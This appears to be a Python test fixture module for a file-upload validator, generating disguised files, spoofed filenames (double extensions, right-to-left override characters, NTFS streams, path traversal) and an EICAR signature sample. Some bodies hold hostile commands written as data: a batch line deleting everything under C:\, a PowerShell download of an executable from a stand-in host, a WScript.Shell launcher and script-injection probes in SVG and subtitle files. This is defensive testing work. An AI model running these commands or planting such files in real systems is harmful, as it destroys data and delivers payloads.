"""Files under a name that is not theirs, and names that hide what they are."""

from tests.hostile.model import EICAR, Files, Hostile
from tests.hostile.pictures import TAILS
from tests.materials import png
from tests.unit.watermark import sample_pdfs

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + b"\x3e\0\x03\0\xfe\xff\x09\0" + bytes(1500)
BODIES = {
    **{name: body for name, body in TAILS.items() if name not in ("zip", "pdf")},
    "batch": b"@echo off\r\ndel /s /q C:\\*\r\n",
    "javascript": b"var x = new ActiveXObject('WScript.Shell'); x.Run('calc.exe');\n" * 5,
    "python": b"import os\n\n\ndef main():\n    os.system('id')\n\n\nmain()\n",
    "powershell": b"$c = New-Object Net.WebClient\n$c.DownloadFile('http://a.example/a','a.exe')\n" * 3,
    "java-class": b"\xca\xfe\xba\xbe\0\0\x004" + bytes(100),
    "seven-zip": b"7z\xbc\xaf'\x1c\0\x04" + bytes(100),
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + bytes(100),
    "rtf": b"{\\rtf1\\ansi{\\object\\objocx{\\*\\objdata 01}}}",
    "word-97": OLE,
    "shortcut": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(100),
    "flash": b"CWS\x0a" + bytes(100),
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "zeros": bytes(2000),
    "noise": bytes((number * 7919 + number // 3) % 256 for number in range(3000)),
}
CLAIMS = ("brochure.pdf", "poster.jpg", "texts.docx", "film.mp4")
NAMES = (
    "brochure.pdf.exe",
    "brochure.pdf.js",
    "poster.jpg.scr",
    "poster.png.html",
    "texts.docx.lnk",
    "slides.pptx.docm",
    "brochure.pdf.bat ",
    "brochure\u202efdp.exe",
    "poster\u202egpj.hta",
    "\u2066brochure\u2069.cmd",
    "brochure.pdf\x00.exe",
    "brochure.pdf\u3000.vbs",
    "brochure.p\u200bdf",
    "brochure.ｐｄｆ",
    "brochure.pdf:stream",
    "brochure.pdf::$DATA",
    "brochure.exe\n.pdf.com",
    ".pdf",
    "brochure",
    "brochure.",
    "con",
    "desktop.ini",
    "autorun.inf",
    "a.pdf/../../b.sh",
    "..\\..\\b.ps1",
)
EMPTY = ("a.pdf", "a.jpg", "a.png", "a.gif", "a.docx", "a.xlsx", "a.mp4", "a.zip", "a.svg", "a.txt")


def files() -> Files:
    """All of them."""
    for name, body in BODIES.items():
        for claim in CLAIMS:
            yield Hostile(f"{name}-as-{claim.rpartition('.')[2]}", claim, body)
    good = sample_pdfs.marked()
    for number, filename in enumerate(NAMES):
        if filename != "brochure.p\u200bdf":  # cleaned on arrival, it is an honest name
            yield Hostile(f"name-{number}", filename, good, "type-not-accepted")
    for filename in EMPTY:
        yield Hostile(f"empty-{filename}", filename, b"", "file-empty")
    yield Hostile("png-as-pdf", "a.pdf", png(), "type-mismatch")
    yield Hostile("pdf-as-png", "a.png", good, "type-mismatch")
    yield Hostile("pdf-as-text", "a.txt", good, "type-mismatch")
    yield Hostile("page-as-text", "a.txt", b"<!DOCTYPE html><html><body>x</body></html>")
    yield Hostile("page-as-subtitles", "a.srt", b"1\n00:00:01,000 --> 00:00:02,000\n<script>alert(1)</script>\n")
    yield Hostile("text-with-zeros", "a.txt", b"a\0b\0c" * 100, "structure-broken")
    yield Hostile("film-without-boxes", "a.mp4", b"\0\0\0\x18ftypmp42" + bytes(50), "structure-broken")
    yield Hostile("film-box-too-long", "a.mp4", b"\0\0\0\x18ftypmp42" + bytes(12) + b"\x7f\xff\xff\xffmdat")


def infected() -> Files:
    """What only a virus scanner sees: the test signature as it is, and inside of what may be uploaded."""
    yield Hostile("eicar-plain", "a.txt", EICAR)
